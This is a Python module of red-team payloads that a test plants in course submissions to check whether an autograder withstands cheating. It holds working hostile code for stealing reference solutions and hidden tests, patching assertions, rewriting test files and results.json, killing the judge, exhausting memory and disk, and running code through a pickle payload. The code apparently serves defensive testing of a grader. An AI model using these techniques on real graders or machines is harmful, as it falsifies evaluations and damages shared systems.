"""The hostile code that tests/test_redteam.py plants in copies of solutions/.

Each constant is Python source with ``@@NAME@@`` placeholders that the test fills in with
``repr`` of a value (the attack's token, the repository path, the results file...): what a
student who has read the course's repository could bake into a submission. Names start
with ``_rt_`` so that they cannot clash with an exercise's own.

AT_IMPORT snippets go right after the exercise file's ``from __future__`` line; IN_FUNCTION
snippets become the first statements of every graded function of the exercise; APPEND
snippets go at the end of the file (redefining the graded function).
"""

# ---- shared: searching the whole machine, for a few seconds at most ----

WALK = r'''
def _rt_walk(wanted, seconds=3.0):
    """(path, text) of every file on the machine, and every member of a zip or wheel, whose path
    satisfies ``wanted``: the likely places first, then everything, for ``seconds`` at most."""
    import os, time, zipfile
    deadline, found, done = time.monotonic() + seconds, [], set()
    for root in ("/autograder", "/home", "/work", "/srv", "/opt", "/mnt", "/data", "/var", "/usr/local", "/root", "/"):
        for top, dirs, files in os.walk(root, onerror=lambda e: None):
            if time.monotonic() > deadline:
                return found
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in done | {"/proc", "/sys", "/dev", "/run"}]
            for name in files:
                path = os.path.join(top, name)
                try:
                    if wanted(path):
                        found.append((path, open(path, encoding="utf-8", errors="replace").read()))
                    elif name.endswith((".zip", ".whl")) and os.path.getsize(path) < 50 << 20:
                        with zipfile.ZipFile(path) as z:
                            for member in z.namelist():
                                if wanted("/" + member):
                                    found.append((path + "!" + member, z.read(member).decode(errors="replace")))
                except Exception:
                    pass
        done.add(root)
    return found
'''

# ---- 1-4: ending the process "successfully" ----

OS_EXIT = "import os as _rt_os\n_rt_os._exit(0)\n"
SYS_EXIT = "import sys as _rt_sys\n_rt_sys.exit(0)\n"
RUNNER_EXIT = """\
import sys as _rt_sys
if "pytest" in _rt_sys.modules:  # the test runner is in this process: end its session "successfully"
    _rt_sys.modules["pytest"].exit("all tests passed", returncode=0)
raise KeyboardInterrupt  # a runner that stops on ^C may report what ran so far as the result
"""

# ---- 5: calling the library's own solution ----

CALL_THE_LIBRARY = """
from ag.attention import tiled_forward as _rt_lib  # taken before the grader installs this file's


def tiled_forward(*args, **kwargs):
    return _rt_lib(*args, **kwargs)
"""

# ---- 6: reading the library's source (or its bytecode, or the course's solutions) ----

STEAL_THE_SOURCE = WALK + r'''
def _rt_steal(module_file, function, solution_file, repo):
    """The first copy of ag/<module_file>'s ``function`` (or the course's solution) that is
    not a stub, from anywhere ag's source could be: the package, its metadata, site-packages,
    the editable finder's mapping, the repository, Gradescope's copy, other processes' cwd,
    anywhere on the machine (zips and wheels too), bytecode caches."""
    import ast, glob, importlib, importlib.metadata, importlib.util, json, marshal, os, re, site, sys, types
    dirs = []
    try:
        import ag
        dirs.append(os.path.dirname(ag.__file__))
        dirs += list(importlib.util.find_spec("ag").submodule_search_locations or [])
    except Exception:
        pass
    try:
        dist = importlib.metadata.distribution("ag")
        for f in dist.files or []:
            if str(f).endswith(module_file):
                dirs.append(os.path.dirname(str(dist.locate_file(f))))
        url = json.loads(dist.read_text("direct_url.json") or "{}").get("url", "")
        if url.startswith("file://"):
            dirs.append(os.path.join(url[len("file://"):], "ag"))
    except Exception:
        pass
    places = [p for p in sys.path if p]
    try:
        places += site.getsitepackages() + [site.getusersitepackages()]
    except Exception:
        pass
    for place in places:
        dirs.append(os.path.join(place, "ag"))
        for finder in glob.glob(os.path.join(place, "__editable__*finder*.py")):
            try:
                dirs += [os.path.join(p) for p in re.findall(r"'ag': '([^']+)'", open(finder).read())]
            except Exception:
                pass
    dirs += [os.path.join(repo, "ag"), "/autograder/source/ag-src/ag", "/autograder/source/ag"]
    try:
        dirs += ["/proc/%s/cwd/ag" % pid for pid in os.listdir("/proc") if pid.isdigit()]
    except Exception:
        pass
    dirs = list(dict.fromkeys(dirs))
    attempts = []
    for d in dirs:  # source files: run the whole module in ag's package, take the function
        attempts.append((os.path.join(d, module_file), "ag", "ag._rt_stolen"))
    for d in [os.path.join(repo, "solutions"), "/autograder/source/solutions", os.path.join(os.getcwd(), "solutions")]:
        attempts.append((os.path.join(d, solution_file), None, "_rt_solution"))

    def candidates():  # the likely places first; the whole machine only if they fail
        for path, package, name in attempts:
            try:
                yield path, open(path, encoding="utf-8").read(), package, name
            except Exception:
                pass
        wanted = lambda p: p.endswith(("/ag/" + module_file, "/" + solution_file))  # noqa: E731
        for path, text in _rt_walk(wanted):
            yield path, text, "ag" if path.endswith("/ag/" + module_file) else None, "_rt_found"

    for path, text, package, name in candidates():
        if "_rt_steal" in text:
            continue  # a red-team file: this one
        try:
            node = next(n for n in ast.parse(text).body if isinstance(n, ast.FunctionDef) and n.name == function)
            if "NotImplementedError" in ast.get_source_segment(text, node):
                continue  # a stub
            namespace = {"__name__": name, "__package__": package, "__file__": path}
            exec(compile(text, path, "exec"), namespace)
            return namespace[function]
        except Exception:
            continue
    for d in dirs:  # bytecode caches of the library module
        for pyc in glob.glob(os.path.join(d, "__pycache__", module_file[:-3] + ".*.pyc")):
            try:
                code = marshal.loads(open(pyc, "rb").read()[16:])
                for const in code.co_consts:
                    if isinstance(const, types.CodeType) and const.co_name == function \
                            and "NotImplementedError" not in const.co_names:
                        owner = importlib.import_module("ag." + module_file[:-3])
                        return types.FunctionType(const, vars(owner), function)
            except Exception:
                continue
    return None


_rt_found = _rt_steal("attention.py", "tiled_backward", "ex5_flash_backward.py", @@REPO@@)


def tiled_backward(*args, **kwargs):
    if _rt_found is None:
        raise RuntimeError("found no solution to copy")
    return _rt_found(*args, **kwargs)
'''

# ---- 7: patching the assertions, then returning garbage ----

PATCH_THE_ASSERTIONS = """\
import math as _rt_math
import sys as _rt_sys

import numpy as _rt_np
import numpy.testing as _rt_npt


def _rt_pass(*args, **kwargs):
    return None


for _rt_module in [_rt_npt] + [m for n, m in list(_rt_sys.modules.items()) if n.startswith("numpy.testing")]:
    for _rt_name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
                     "assert_almost_equal", "assert_approx_equal", "assert_array_less", "assert_array_max_ulp",
                     "assert_array_almost_equal_nulp", "assert_string_equal"):
        if hasattr(_rt_module, _rt_name):
            setattr(_rt_module, _rt_name, _rt_pass)
_rt_np.allclose = _rt_np.array_equal = _rt_np.array_equiv = lambda *args, **kwargs: True
_rt_np.isclose = lambda a, b, *args, **kwargs: _rt_np.ones(_rt_np.broadcast(a, b).shape, bool)
_rt_math.isclose = lambda *args, **kwargs: True
if "pytest" in _rt_sys.modules:
    class _RtAnything:
        def __eq__(self, other):
            return True
    _rt_sys.modules["pytest"].approx = lambda *args, **kwargs: _RtAnything()
"""
GARBAGE_BLOCK = "return SoftmaxBlock(np.zeros_like(a.o), np.maximum(a.m, b.m), a.l + b.l)\n"

# ---- 8: returning values that compare equal to anything ----

EQUAL_TO_ANYTHING = '''\
import numpy as _rt_np

_RT_TRUE = {"equal", "less", "less_equal", "greater", "greater_equal", "isfinite", "logical_or", "logical_and"}
_RT_FALSE = {"not_equal", "isnan", "isinf", "isneginf", "isposinf", "logical_not", "logical_xor", "signbit"}


class _RtSame(_rt_np.ndarray):
    """An array that equals, and is close to, whatever it is compared with."""

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [x.view(_rt_np.ndarray) if isinstance(x, _rt_np.ndarray) else x for x in inputs]
        kwargs.pop("out", None)
        kwargs.pop("where", None)
        try:
            shape = () if method == "reduce" else _rt_np.broadcast_shapes(*[_rt_np.shape(x) for x in plain])
        except Exception:
            shape = self.shape
        if ufunc.__name__ in _RT_TRUE:
            return _rt_np.ones(shape, bool).view(_RtSame)
        if ufunc.__name__ in _RT_FALSE:
            return _rt_np.zeros(shape, bool).view(_RtSame)
        if method == "__call__" and ufunc.__name__ in ("subtract", "absolute"):
            return _rt_np.zeros(shape).view(_RtSame)
        try:
            out = getattr(ufunc, method)(*plain, **kwargs)
        except Exception:
            return _rt_np.zeros(shape).view(_RtSame)
        return _rt_np.asarray(out).view(_RtSame)

    def __eq__(self, other):
        return _rt_np.ones(self.shape, bool).view(_RtSame)

    def __ne__(self, other):
        return _rt_np.zeros(self.shape, bool).view(_RtSame)

    def __bool__(self):
        return True

    def all(self, *args, **kwargs):
        return True

    def any(self, *args, **kwargs):
        return True

    def __reduce__(self):  # pickled, it comes back as this class (an import of this module)
        return (_rt_same, (self.shape,))

    __hash__ = None


class _RtFloat(float):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__


def _rt_same(shape):
    return _rt_np.zeros(shape).view(_RtSame)
'''
RETURN_SAME = "return SoftmaxBlock(_rt_same(np.shape(a.o)), _rt_same(np.shape(a.m)), _rt_same(np.shape(a.l)))\n"

# ---- 9: reading the hidden tests and printing them everywhere ----

LEAK_THE_HIDDEN_TESTS = WALK + r'''
_rt_cache = []


def _rt_hidden_tests():
    """Every hidden graded test this process can read: the repository, Gradescope's copy,
    the autograder bundle, anything found by walking up from the working directory, ag's
    package or other processes' working directories, anywhere on the machine."""
    import glob, os, zipfile
    roots = [@@REPO@@, os.getcwd(), "/autograder/source", "/autograder"]
    try:
        import ag
        roots.append(os.path.dirname(ag.__file__))
    except Exception:
        pass
    roots += [v for k, v in os.environ.items() if os.path.isabs(v)]
    try:
        roots += ["/proc/%s/cwd" % pid for pid in os.listdir("/proc") if pid.isdigit()]
    except Exception:
        pass
    found = {}
    for root in roots:
        here = root
        for _ in range(6):
            patterns = [("tests", "grading", "hidden"), ("grading", "hidden"), ("hidden",)]
            for path in [p for parts in patterns for p in glob.glob(os.path.join(here, *parts, "*.py"))]:
                try:
                    found.setdefault(os.path.basename(path), open(path).read())
                except Exception:
                    pass
            here = os.path.dirname(here)
    for bundle in [@@BUNDLE@@] + glob.glob("/autograder/*.zip") + glob.glob(os.path.join(@@REPO@@, "*.zip")):
        try:
            with zipfile.ZipFile(bundle) as z:
                for name in z.namelist():
                    if "hidden/" in name and name.endswith(".py"):
                        found.setdefault(os.path.basename(name), z.read(name).decode())
        except Exception:
            pass
    if not _rt_cache:
        _rt_cache.append(_rt_walk(lambda p: p.endswith(".py") and ("/hidden/" in p or "/test_hidden" in p)))
    for path, text in _rt_cache[0]:
        found.setdefault(os.path.basename(path), text)
    return "".join("# ---- %s\n%s\n" % item for item in sorted(found.items()))


def _rt_leak():
    import os, sys
    text = _rt_hidden_tests()
    print(text)
    print(text, file=sys.stderr)
    for fd in (1, 2):
        try:
            os.write(fd, text.encode())
        except OSError:
            pass
    return text


_rt_leak()
'''
LEAK_IN_FUNCTION = 'raise AssertionError("hidden tests:\\n" + _rt_leak())\n'

# ---- 10: rewriting the graded tests and ag's installed files ----

TAMPER = r'''
def _rt_tamper():
    """Append to every graded test, conftest.py and ag module this process can reach. What is
    appended to conftest.py makes every test pass, but only in the red team's own runs (its
    submission folder is named redteam-submission), so a grader that lets this through cannot
    break anyone else's tests; what goes into the other files is a comment."""
    import glob, os
    token = @@TOKEN@@
    conftest = (
        "\n# >>> " + token + "\n"
        "import os as _rt_os, sys as _rt_sys\n"
        "if 'redteam-submission' in _rt_os.environ.get('AG_SUBMISSION', '') + ' '.join(_rt_sys.argv):\n"
        "    import pytest as _rt_pytest\n"
        "    @_rt_pytest.hookimpl(hookwrapper=True)\n"
        "    def pytest_runtest_makereport(item, call):\n"
        "        outcome = yield\n"
        "        report = outcome.get_result()\n"
        "        report.outcome, report.longrepr = 'passed', None\n"
        "# <<< " + token + "\n")
    comment = "\n# >>> " + token + "\n# this file was rewritten by a submission\n# <<< " + token + "\n"
    roots = [@@REPO@@, "/autograder/source", os.getcwd()]
    ag_dirs = [os.path.join(@@REPO@@, "ag"), "/autograder/source/ag-src/ag"]
    try:
        import ag
        ag_dirs.append(os.path.dirname(ag.__file__))
    except Exception:
        pass
    targets = []
    for root in roots:
        targets += glob.glob(os.path.join(root, "tests", "grading", "**", "*.py"), recursive=True)
        targets += glob.glob(os.path.join(root, "tests", "conftest.py"))
    for d in ag_dirs:
        targets += glob.glob(os.path.join(d, "**", "*.py"), recursive=True)
    done = []
    for path in dict.fromkeys(targets):
        try:
            with open(path, "a") as out:
                out.write(conftest if os.path.basename(path) == "conftest.py" else comment)
            done.append(path)
        except OSError:
            pass
    return done


_rt_tamper()
'''
TAMPER_IN_FUNCTION = 'raise RuntimeError("rewrote %d files" % len(_rt_tamper()))\n'

# ---- 11: a daemon that rewrites results.json after the grader has returned ----

LATE_REWRITE = r'''
_RT_DAEMON = """
import json, os, sys, time
target, deadline = @@RESULTS@@, time.time() + 90
while time.time() < deadline:
    time.sleep(0.2)
    try:
        if time.time() - os.stat(target).st_mtime < 2:
            continue  # still being written; strike once the grader has returned
        data = json.load(open(target))
    except Exception:
        continue
    for test in data.get("tests", []):
        test.update(score=test.get("max_score", 0), status="passed", output="")
    data["score"] = data.get("max_score", 0)
    with open(target, "w") as out:
        json.dump(data, out, indent=2)
    break
"""


def _rt_daemon():
    """Fork, setsid, fork again: an orphan in its own session, then exec a Python that waits."""
    import os, sys
    try:
        pid = os.fork()
    except OSError:
        return
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", _RT_DAEMON, @@TOKEN@@])
    finally:
        os._exit(0)
'''
DAEMON_IN_FUNCTION = '_rt_daemon()\nraise RuntimeError("see you later")\n'

# ---- 12: processes left running ----

LEAVE_PROCESSES = r'''
_rt_spawned = []


def _rt_spawn(count=30):
    """``count`` orphans, each in its own session, each a sleep whose argv[0] is the token.
    They keep the standard streams they inherit (a grader that waits for EOF waits on them)."""
    import os, shutil
    if _rt_spawned:
        return
    sleep = shutil.which("sleep") or "/bin/sleep"
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid:
            os.waitpid(pid, 0)
            _rt_spawned.append(pid)
            continue
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sleep, [@@TOKEN@@, "120"])
        finally:
            os._exit(0)
'''
SPAWN_IN_FUNCTION = '_rt_spawn()\nraise RuntimeError("spawned %d" % len(_rt_spawned))\n'

# ---- 13: an infinite loop that ignores the polite signals ----

IGNORE_SIGNALS = """\
import signal as _rt_signal

for _rt_name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGALRM", "SIGXCPU", "SIGUSR1", "SIGUSR2", "SIGVTALRM", "SIGPROF"):
    try:
        _rt_signal.signal(getattr(_rt_signal, _rt_name), _rt_signal.SIG_IGN)
    except (AttributeError, OSError, ValueError):
        pass
"""
LOOP_FOREVER = """\
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

# ---- 14: a memory hog (capped at 6 GiB, in 1 GiB steps, every page touched) ----

MEMORY_HOG = """\
import numpy as _rt_np
import sys as _rt_sys
_rt_hog = []
if not hasattr(_rt_sys, "_rt_hogged"):  # once per process: the next calls fail at once
    try:
        for _ in range(6):
            _rt_hog.append(_rt_np.ones(1 << 27))  # 1 GiB of float64, written
    except MemoryError:
        pass
    _rt_sys._rt_hogged = len(_rt_hog)
raise RuntimeError("held %d GiB" % _rt_sys._rt_hogged)
"""

# ---- 15: a disk filler (until an error, capped at 2 GiB per place) ----

FILL_THE_DISK = r'''
def _rt_fill():
    import os, tempfile
    places = [os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME") or "/",
              @@HOME@@, @@REPO@@]
    chunk = b"\0" * (64 << 20)
    written = 0
    for place in dict.fromkeys(places):
        try:
            with open(os.path.join(place, "." + @@TOKEN@@ + "-fill"), "wb") as out:
                for _ in range(32):  # 32 x 64 MiB = 2 GiB
                    out.write(chunk)
                    out.flush()
                    written += len(chunk)
        except OSError:
            pass
    return written
'''
FILL_IN_FUNCTION = 'raise RuntimeError("wrote %d bytes" % _rt_fill())\n'

# ---- 16: a TCP connection to a listener on 127.0.0.1 ----

CONNECT = r'''
def _rt_connect():
    import socket
    try:
        with socket.create_connection(("127.0.0.1", @@PORT@@), timeout=2) as s:
            s.sendall(b"hello from " + @@TOKEN@@.encode())
            return True
    except OSError:
        return False


_rt_connect()
'''
CONNECT_IN_FUNCTION = 'raise RuntimeError("connected: %s" % _rt_connect())\n'

# ---- 17: 50 MB of output ----

FLOOD = """\
import os as _rt_os
import sys as _rt_sys
_rt_line = "x" * (1 << 20) + "\\n"
for _ in range(12):
    _rt_sys.stdout.write(_rt_line)
    _rt_sys.stderr.write(_rt_line)
    for _rt_fd in (1, 2):
        try:
            _rt_os.write(_rt_fd, _rt_line.encode())
        except OSError:
            pass
_rt_sys.stdout.flush()
raise RuntimeError("y" * (2 << 20))
"""

# ---- 18: fake "passed" lines and a fake results.json on stdout (and on every pipe) ----

FAKE_RESULTS = r'''
def _rt_fake():
    import json, os, stat, sys
    lines = @@FAKE_LINES@@
    text = "\n".join(lines) + "\n" + json.dumps(@@FAKE_JSON@@, indent=2) + "\n"
    print(text)
    print(text, file=sys.stderr)
    sys.stdout.flush()
    for fd in range(1, 256):  # a channel back to the judge may be one of these
        try:
            mode = os.fstat(fd).st_mode
            if fd in (1, 2) or stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                os.write(fd, text.encode())
        except OSError:
            pass


_rt_fake()
'''
FAKE_IN_FUNCTION = "_rt_fake()\nraise RuntimeError('see stdout')\n"

# ---- 19: objects that run code where they are unpickled ----

PICKLE_PAYLOAD = r'''
class _RtPayload:
    """Harmless where it is made; unpickled (pickle, or NumPy's object arrays), it runs code."""

    def __reduce__(self):
        code = "open(%r, 'w').write('the judge unpickled a submission object')" % @@MARKER@@
        return (exec, (code,))

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__
'''
PAYLOAD_IN_FUNCTION = "return [_RtPayload()]\n"

# ---- 20: killing the judge ----

KILL_THE_JUDGE = r'''
def _rt_kill_the_judge():
    """SIGKILL every process whose command line names this submission (the grader that runs it),
    the parent first. Only processes that name the red team's own folder: nothing else is touched."""
    import os, signal
    mine, killed = @@SUBMISSION@@.encode(), []
    pids = [os.getppid()]
    try:
        pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for pid in dict.fromkeys(pids):
        if pid in (0, 1, os.getpid()):
            continue
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                if mine in f.read():
                    os.kill(pid, signal.SIGKILL)
                    killed.append(pid)
        except OSError:
            pass
    return killed
'''
KILL_IN_FUNCTION = 'raise RuntimeError("killed %s" % _rt_kill_the_judge())\n'

# ---- 14b: a memory hog spread over processes (1 GiB each, each under the per-process limit) ----

MEMORY_ACROSS_PROCESSES = r'''
_rt_held = []


def _rt_hog_across_processes(count=@@HOG_PROCESSES@@):
    """``count`` child Pythons (token in argv, killed with their parent), each holding 1 GiB of
    written memory, all at once; how many got there within 15 s. Once per process (at import:
    the grader gives an import more time than a call)."""
    import ctypes, os, select, subprocess, sys, time
    if _rt_held:
        return _rt_held[0]
    child = "import os, sys, time; b = b'x' * (1 << 30); os.write(1, b'1'); time.sleep(60)"
    libc = ctypes.CDLL(None)
    read, write = os.pipe()
    errors, children = [], []
    for _ in range(count):
        try:
            children.append(subprocess.Popen(
                [sys.executable, "-S", "-c", child, @@TOKEN@@], stdout=write, stdin=subprocess.DEVNULL,
                stderr=subprocess.PIPE, preexec_fn=lambda: libc.prctl(1, 9)))  # PR_SET_PDEATHSIG, SIGKILL
        except Exception as error:
            errors.append(repr(error)[:80])
            break
    os.close(write)
    got, deadline = 0, time.monotonic() + 15
    while got < count and time.monotonic() < deadline:
        ready, _, _ = select.select([read], [], [], 0.2)
        if ready:
            data = os.read(read, 64)
            if not data:
                break
            got += len(data)
    for c in children:
        if c.poll() is not None:
            errors.append("exit %s: %s" % (c.returncode, c.stderr.read()[-80:]))
    _rt_held.append("%d GiB at once (%d started; %s)" % (got, len(children), "; ".join(errors[:2])))
    return _rt_held[0]


_rt_hog_across_processes()
'''
HOG_ACROSS_IN_FUNCTION = 'raise RuntimeError("redteam held %s" % _rt_hog_across_processes())\n'

# ---- 21, 22: System V IPC, POSIX message queues and the persistent keyring: they outlive the
# worker (no IPC namespace; keyrings are per user, not per PID or mount namespace) ----

IPC_HELPERS = r'''
def _rt_ipc_calls():
    import ctypes, ctypes.util, platform
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.restype, libc.shmget.argtypes = ctypes.c_int, [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.argtypes = [ctypes.c_void_p]
    libc.syscall.restype = ctypes.c_long
    add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (None, None))
    return ctypes, libc, add_key, keyctl


def _rt_shm_put(key, data):
    """``data`` in a SysV shared memory segment (length first), which stays after the process."""
    ctypes, libc, _, _ = _rt_ipc_calls()
    shm = libc.shmget(key, max(64 << 10, len(data) + 8), 0o1000 | 0o666)  # IPC_CREAT
    if shm < 0:
        return False
    address = libc.shmat(shm, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        return False
    ctypes.memmove(address, len(data).to_bytes(8, "little") + data, len(data) + 8)
    libc.shmdt(ctypes.c_void_p(address))
    return True


def _rt_shm_get(key):
    ctypes, libc, _, _ = _rt_ipc_calls()
    shm = libc.shmget(key, 0, 0)
    if shm < 0:
        return None
    address = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
    if address in (None, ctypes.c_void_p(-1).value):
        return None
    size = int.from_bytes(ctypes.string_at(address, 8), "little")
    data = ctypes.string_at(address + 8, size)
    libc.shmdt(ctypes.c_void_p(address))
    return data


def _rt_keyring():
    """The worker user's persistent keyring: it outlives the user's processes, for days."""
    ctypes, libc, _, keyctl = _rt_ipc_calls()
    if keyctl is None:
        return -1
    return libc.syscall(keyctl, 22, ctypes.c_long(-1), ctypes.c_long(-2))  # GET_PERSISTENT, me, process keyring


def _rt_key_put(name, data):
    ctypes, libc, add_key, _ = _rt_ipc_calls()
    keyring = _rt_keyring()
    if keyring <= 0:
        return False
    return libc.syscall(add_key, b"user", name.encode(), data, ctypes.c_size_t(len(data)), ctypes.c_long(keyring)) > 0


def _rt_key_get(name):
    ctypes, libc, _, keyctl = _rt_ipc_calls()
    keyring = _rt_keyring()
    if keyring <= 0:
        return None
    key = libc.syscall(keyctl, 10, ctypes.c_long(keyring), b"user", name.encode(), ctypes.c_long(0))  # SEARCH
    if key <= 0:
        return None
    buffer = ctypes.create_string_buffer(1 << 16)
    size = libc.syscall(keyctl, 11, ctypes.c_long(key), buffer, ctypes.c_long(1 << 16))  # READ
    return buffer.raw[:size] if size > 0 else None
'''

IPC_LEFTOVERS = IPC_HELPERS + r'''

def _rt_ipc():
    """A SysV shared memory segment (64 MiB, written), a SysV message queue holding a message, a
    POSIX message queue and a key in the persistent keyring, all named after the token."""
    import os
    ctypes, libc, _, _ = _rt_ipc_calls()
    key, made = @@IPC_KEY@@, []
    if _rt_shm_put(key, b"\1" * (64 << 20)):
        made.append("shm")
    queue = libc.msgget(key, 0o1000 | 0o666)
    if queue >= 0:
        message = ctypes.create_string_buffer(b"\x01\0\0\0\0\0\0\0data for the next worker", 64)
        libc.msgsnd(queue, message, 48, 0o4000)  # IPC_NOWAIT
        made.append("msg")
    try:
        rt = ctypes.CDLL(ctypes.util.find_library("rt") or None, use_errno=True)
        if rt.mq_open(("/" + @@TOKEN@@).encode(), os.O_CREAT | os.O_RDWR, 0o666, None) >= 0:
            made.append("mqueue")
    except Exception:
        pass
    if _rt_key_put(@@TOKEN@@, b"data for the next worker"):
        made.append("keyring")
    return made


_rt_ipc()
'''
IPC_IN_FUNCTION = 'raise RuntimeError("left %s" % _rt_ipc())\n'

SMUGGLE_STASH = IPC_HELPERS + r'''

def _rt_stash():
    """In exercise 3's worker, whose ag has exercise 4's solution: keep its source for later."""
    import inspect
    import ag.attention
    source = inspect.getsource(ag.attention.tiled_forward).encode()
    return [_rt_shm_put(@@IPC_KEY@@, source), _rt_key_put(@@TOKEN@@, source)]


_rt_stash()
'''
SMUGGLE_LOAD = IPC_HELPERS + r'''

def _rt_smuggled():
    """In exercise 4's worker, whose tiled_forward is a stub: the solution exercise 3's left."""
    import ag.attention.forward
    for get, name in ((_rt_shm_get, @@IPC_KEY@@), (_rt_key_get, @@TOKEN@@)):
        try:
            source = get(name)
            if source:
                namespace = dict(vars(ag.attention.forward))  # the names the solution's module gives it
                exec(source.decode(), namespace)
                return namespace["tiled_forward"]
        except Exception:
            continue
    return None


_rt_solution = _rt_smuggled()
if _rt_solution is not None:
    tiled_forward = _rt_solution
'''

# ---- 18b: Markdown where results.json (rendered as Markdown) shows the student's doing ----

MARKDOWN_INJECTION = r'''
def _rt_markdown(arguments):
    """Markdown where the grader shows what the student's code did: as data, a string that closes
    the code span a check quotes it in and then shows an image; as an error, a message and a source
    "file name" holding a heading that says every test passed (and the image again)."""
    import os
    if arguments.get("strategy") == "sqrt":
        return "` ![pixel](pixel.png) `"
    fake = "\n\n# All 62 tests passed\n\n![pixel](pixel.png)\n\n"
    name = os.path.join(os.path.dirname(os.path.abspath(__file__)), fake + "grader.py")
    exec(compile("raise RuntimeError(" + repr(fake) + ")", name, "exec"), {})
'''
MARKDOWN_IN_FUNCTION = "_rt_md = _rt_markdown(locals())\nif _rt_md is not None:\n    return _rt_md\n"

# ---- 16b: a Unix socket on the host (pathname sockets are files, not part of the network namespace) ----

CONNECT_UNIX = r'''
def _rt_connect_unix():
    import socket
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(2)
            s.connect(@@UNIX_SOCKET@@)
            s.sendall(b"hello from " + @@TOKEN@@.encode())
            return True
    except OSError:
        return False


_rt_connect_unix()
'''
CONNECT_UNIX_IN_FUNCTION = 'raise RuntimeError("connected: %s" % _rt_connect_unix())\n'

# ---- 23: a reply that is modest on the wire and large in the judge (JSON floats, not an array) ----

AMPLIFY = r'''
_rt_sent = []


def _rt_amplify(arguments):
    """Once, for the first plan asked for: 12 million floats as a plain list (60 MB of JSON, some
    600 MB of Python objects in whoever decodes it); an empty plan for the next; errors afterwards."""
    if len(_rt_sent) > 2:
        raise RuntimeError("sent once")
    _rt_sent.append(1)
    return [1e0] * (12 << 20) if len(_rt_sent) == 1 else []
'''
AMPLIFY_IN_FUNCTION = "return _rt_amplify(locals())\n"
